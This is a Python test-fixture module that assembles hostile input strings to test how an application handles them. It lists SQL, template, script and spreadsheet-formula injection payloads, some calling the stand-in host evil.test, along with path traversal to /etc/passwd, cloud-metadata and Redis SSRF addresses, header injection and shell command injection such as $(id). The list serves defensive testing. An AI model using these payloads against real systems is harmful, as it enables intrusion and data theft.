"""What attackers send: the recorded requests and strings of the shared folder, and more of our own."""

import json
import string
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

OWN = (
    # SQL, also through sort and group
    "' OR '1'='1", "'; DROP TABLE books; --", "1; SELECT pg_sleep(9)", "' UNION SELECT password_hash FROM users --",
    "title; DELETE FROM users", "$$; COPY users TO PROGRAM 'id'; $$", "'||(SELECT version())||'", "%' ESCAPE '!' --",
    "\\'; --", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%for x in().__class__.__base__%}", "{0.__class__}",
    "%s%s%n",
    # Markup
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "javascript:alert(1)",
    '"><script src=//evil.test></script>', "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    # Paths and addresses of servers
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f", "....//....//", "file:///etc/passwd",
    "http://169.254.169.254/latest/meta-data/", "http://[::ffff:127.0.0.1]:8000/", "gopher://127.0.0.1:6379/_FLUSHALL",
    # Lines and headers
    "a\r\nSet-Cookie: x=1", "a\nBcc: everybody@library.test", "\u2028\u2029", "a\u0000b", "a\x1b[31mred", "a\x7f",
    # Unicode
    "\u202eevil\u202c", "\ufeffbom", "e\u0301", "\u00e9", "ﬀ", "ß", "İ", "ı", "👩‍👩‍👧‍👦", "𝕬", "\U0010ffff", "\ufffd",
    "А" * 190,
    "z̷̧̨a̸l̵g̶o̷", "١٢٣", "ⅷ", "\u200b\u200c\u200d", "क्षि", "你好",
    # Formulas of spreadsheets
    '=HYPERLINK("http://evil.test")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "=cmd|'/c calc'!A1",
    # Numbers and words of other languages
    "1e309", "-0", "9" * 100, "NaN", "Infinity", "0x7fffffffffffffff", "null", "None", "undefined", "true", "[]", "{}",
    "__proto__", "constructor.prototype", "__class__", "() { :; }; id", "$(id)", "`id`", "| id", "&& id", "%0aid",
    # Searches
    '"', "'", "*", "AND OR NOT", "NEAR(a b)", "col:x", "^a", "a*b*c", "(((((", ":*", "!a & b | c", "<->",
    "\\", "%", "_",
)  # fmt: skip


def recorded(shared: Path) -> Iterator[dict[str, Any]]:
    """The requests of the OWASP CRS' own tests."""
    with (shared / "data" / "attacks" / "crs_v334_tests.jsonl").open(encoding="utf-8") as lines:
        for line in lines:
            yield json.loads(line)["input"]


def strings(shared: Path) -> list[str]:
    """Every distinct string: naughty ones, those inside the recorded requests, and our own."""
    found = dict.fromkeys(OWN)
    found.update(dict.fromkeys(json.loads((shared / "data" / "attacks" / "blns.json").read_text(encoding="utf-8"))))
    for request in recorded(shared):
        query = urlsplit(str(request.get("uri", ""))).query
        for _, value in parse_qsl(query, keep_blank_values=True, errors="replace"):
            found[value] = None
        data = request.get("data")
        if isinstance(data, str):
            found[data] = None
            found.update(dict.fromkeys(value for _, value in parse_qsl(data, errors="replace")))
        for name, value in (request.get("headers") or {}).items():
            if name.lower() in {"user-agent", "referer", "cookie", "x-filename"}:
                found[str(value)] = None
    return [text for text in found if text.isascii() or not any("\ud800" <= letter <= "\udfff" for letter in text)]


def is_refused(text: str) -> bool:
    """Whether a one-line field must refuse a text: control characters, or nothing but white space."""
    line = text.strip(string.whitespace + "\x85\xa0") if text.isascii() else text.strip()
    return not line or any(letter < " " or letter == "\x7f" for letter in line)
